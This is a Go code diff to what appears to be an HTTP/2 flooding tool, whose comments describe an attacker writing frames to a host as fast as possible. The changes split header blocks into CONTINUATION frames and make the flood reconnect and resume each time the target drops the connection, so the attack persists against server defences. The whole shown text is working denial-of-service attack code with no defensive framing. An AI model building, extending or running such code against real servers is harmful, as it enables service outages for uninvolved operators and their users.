@@ -19,9 +19,10 @@ import (
 )
 
 const (
-	headerTable = 4096
-	gathered    = 16 << 10 // bytes of frames that are written at once
-	patient     = 2 * time.Second
+	headerTable  = 4096
+	largestFrame = 16 << 10
+	gathered     = 16 << 10 // bytes of frames that are written at once
+	patient      = 2 * time.Second
 )
 
 // conn is a connection on which the attacker writes frames as it likes. One goroutine
@@ -163,7 +164,15 @@ func (c *conn) head(path string, more ...string) []byte {
 func (c *conn) open(block []byte, end bool) (uint32, error) {
 	id := c.next
 	c.next += 2
-	return id, c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: end})
+	first := min(len(block), largestFrame)
+	rest := block[first:]
+	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:first], EndHeaders: len(rest) == 0, EndStream: end})
+	for err == nil && len(rest) > 0 {
+		next := rest[:min(len(rest), largestFrame)]
+		rest = rest[len(next):]
+		err = c.WriteContinuation(id, len(rest) == 0, next)
+	}
+	return id, err
 }
 
 // linger waits until the host ends the connection, or the attack is over.
@@ -179,8 +188,25 @@ func (c *conn) linger() error {
 	}
 }
 
-// flood writes frames as fast as they go, until it is over. The first call of a step has 0.
+// flood writes frames as fast as they go, until it is over, and comes again whenever it was cut off. The first call of a
+// step on a connection has 0.
 func flood(step func(c *conn, i uint32) error, settings ...http2.Setting) func(context.Context, *attack) error {
+	once := floodOnce(step, settings...)
+	return func(ctx context.Context, a *attack) error {
+		for first := true; ; first = false {
+			err := once(ctx, a)
+			switch {
+			case ctx.Err() != nil, errors.Is(err, errEnough), err != nil && first && !errors.Is(err, errGone):
+				return err
+			case err != nil && !errors.Is(err, errGone): // it comes too fast
+				rest(ctx)
+			}
+		}
+	}
+}
+
+// floodOnce is flood until it was cut off.
+func floodOnce(step func(c *conn, i uint32) error, settings ...http2.Setting) func(context.Context, *attack) error {
 	return func(ctx context.Context, a *attack) error {
 		c, err := a.connect(ctx, true, settings...)
 		if err != nil {
